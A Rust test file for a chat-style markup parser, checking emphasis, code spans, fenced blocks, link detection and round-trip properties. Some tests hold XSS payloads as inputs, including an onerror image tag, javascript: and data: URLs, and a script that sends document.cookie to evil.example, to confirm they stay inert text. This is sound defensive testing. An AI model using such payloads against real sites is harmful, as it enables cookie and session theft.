use proptest::prelude::*;

use super::*;

fn text(s: &str) -> Inline {
    Inline::Text(s.to_owned())
}

fn paragraph(inlines: Vec<Inline>) -> Markup {
    Markup { blocks: vec![Block::Paragraph(inlines)] }
}

fn link(s: &str) -> Inline {
    let Block::Paragraph(inlines) = &Markup::parse(s).blocks[0] else { panic!("a paragraph") };
    assert!(matches!(inlines.as_slice(), [Inline::Link(_)]), "{s} is one link: {inlines:?}");
    inlines[0].clone()
}

#[test]
fn plain_text_is_one_text() {
    assert_eq!(Markup::parse("hello, world"), paragraph(vec![text("hello, world")]));
}

#[test]
fn bold_italic_and_code() {
    assert_eq!(
        Markup::parse("a **b** *c* `d`"),
        paragraph(vec![
            text("a "),
            Inline::Bold(vec![text("b")]),
            text(" "),
            Inline::Italic(vec![text("c")]),
            text(" "),
            Inline::Code("d".into()),
        ])
    );
}

#[test]
fn emphasis_nests() {
    assert_eq!(
        Markup::parse("**bold *both***"),
        paragraph(vec![Inline::Bold(vec![text("bold "), Inline::Italic(vec![text("both")])])])
    );
    assert_eq!(
        Markup::parse("*it **bold** it*"),
        paragraph(vec![Inline::Italic(vec![
            text("it "),
            Inline::Bold(vec![text("bold")]),
            text(" it"),
        ])])
    );
    assert_eq!(
        Markup::parse("***all***"),
        paragraph(vec![Inline::Italic(vec![Inline::Bold(vec![text("all")])])])
    );
}

#[test]
fn broken_markup_stays_as_typed() {
    for source in [
        "**not closed",
        "*not closed",
        "a * b * c",
        "2 ** 3",
        "`not closed",
        "** x**",
        "*",
        "**",
        "``",
    ] {
        assert_eq!(Markup::parse(source), paragraph(vec![text(source)]), "{source}");
    }
    assert_eq!(Markup::parse("**a*"), paragraph(vec![text("*"), Inline::Italic(vec![text("a")])]));
}

#[test]
fn markup_inside_code_is_text() {
    assert_eq!(
        Markup::parse("`**not bold** https://x.org`"),
        paragraph(vec![Inline::Code("**not bold** https://x.org".into())])
    );
    assert_eq!(
        Markup::parse("``has ` inside``"),
        paragraph(vec![Inline::Code("has ` inside".into())])
    );
}

#[test]
fn links_are_found_in_text_and_inside_emphasis() {
    assert_eq!(
        Markup::parse("see https://example.org/x, then **http://a.b**"),
        paragraph(vec![
            text("see "),
            link("https://example.org/x"),
            text(", then "),
            Inline::Bold(vec![link("http://a.b")]),
        ])
    );
}

#[test]
fn only_http_and_https_become_links() {
    for source in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(document.cookie)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox",
        "file:///etc/passwd",
        "xhttps://x.org",
        "[click](javascript:alert(1))",
    ] {
        let markup = Markup::parse(source);
        let has_link = markup.blocks.iter().any(|block| {
            matches!(block, Block::Paragraph(inlines) if inlines.iter().any(|i| matches!(i, Inline::Link(_))))
        });
        assert!(!has_link, "{source} gave {markup:?}");
        assert_eq!(markup.plain_text(), source);
    }
}

#[test]
fn a_link_hidden_in_a_javascript_url_is_only_the_http_part() {
    let markup = Markup::parse("javascript:fetch('https://evil.example/'+document.cookie)");
    let Block::Paragraph(inlines) = &markup.blocks[0] else { panic!("a paragraph") };
    // The script stays text; only the https address inside it is a link (a harmless one: an
    // href can only ever start with http(s)://).
    assert_eq!(inlines[0], text("javascript:fetch('"));
    assert_eq!(inlines[1], link("https://evil.example/'+document.cookie"));
    assert_eq!(inlines[2], text(")"));
}

#[test]
fn fenced_code_blocks() {
    assert_eq!(
        Markup::parse("before\n```rust\nfn main() {\n    **x**\n}\n```\nafter"),
        Markup {
            blocks: vec![
                Block::Paragraph(vec![text("before")]),
                Block::Code {
                    language: Some("rust".into()),
                    code: "fn main() {\n    **x**\n}".into()
                },
                Block::Paragraph(vec![text("after")]),
            ]
        }
    );
    assert_eq!(
        Markup::parse("```\n<b>x</b>\n```"),
        Markup { blocks: vec![Block::Code { language: None, code: "<b>x</b>".into() }] }
    );
}

#[test]
fn a_fence_without_an_end_is_text() {
    assert_eq!(
        Markup::parse("```\nno end **b**"),
        paragraph(vec![text("```\nno end "), Inline::Bold(vec![text("b")]),])
    );
}

#[test]
fn one_line_code_with_three_backticks_is_a_code_span() {
    assert_eq!(
        Markup::parse("```let x = 1;```"),
        paragraph(vec![Inline::Code("let x = 1;".into())])
    );
}

#[test]
fn html_is_text() {
    let source = "<img src=x onerror=alert(1)><script>alert(1)</script>";
    assert_eq!(Markup::parse(source), paragraph(vec![text(source)]));
}

#[test]
fn hostile_inputs_of_the_maximum_length_parse_to_their_own_text() {
    let max = crate::MessageBody::MAX_CHARS;
    for unit in ["*a ", "**a ", "`", "``a", "* ", "a*", "https://", "(https://x.org/("] {
        let source: String = unit.repeat(max / unit.len());
        let markup = Markup::parse(&source);
        assert_eq!(markup.plain_text().replace(['*', '`'], ""), source.replace(['*', '`'], ""));
    }
    let nested = format!("{}x{}", "*".repeat(2000), "*".repeat(2000));
    assert_eq!(Markup::parse(&nested).plain_text(), "x");
}

#[test]
fn plain_text_drops_markup_only() {
    let markup = Markup::parse("**hi** *there* `code` https://x.org\n```\nblock\n```");
    assert_eq!(markup.plain_text(), "hi there code https://x.org\nblock");
}

#[test]
fn a_literal_backtick_before_code_does_not_pair_with_its_new_fence() {
    // Found by the property below: the text keeps an unclosed "`", and the code span ":" was
    // written back with a one-backtick fence, which the next parse paired with the text's.
    let markup = Markup::parse("`😀``:``");
    let again = Markup::parse(&markup.to_source());
    assert_eq!(again.plain_text(), markup.plain_text());
    assert_eq!(again, markup);
}

proptest! {
    /// Whatever is typed on one line, the tree holds every character that is not a marker,
    /// in order, and printing the tree back and parsing it again shows the same text.
    #[test]
    fn every_character_survives(source in "[a-z *`:/.()h\u{4e2d}\u{1F600}]{0,60}") {
        let markup = Markup::parse(&source);
        let strip = |s: &str| s.replace(['*', '`'], "");
        prop_assert_eq!(strip(&markup.plain_text()), strip(&source));
        let again = Markup::parse(&markup.to_source());
        prop_assert_eq!(again.plain_text(), markup.plain_text());
    }

    #[test]
    fn any_text_parses(source in "\\PC{0,200}") {
        let _ = Markup::parse(&source).to_source();
    }
}
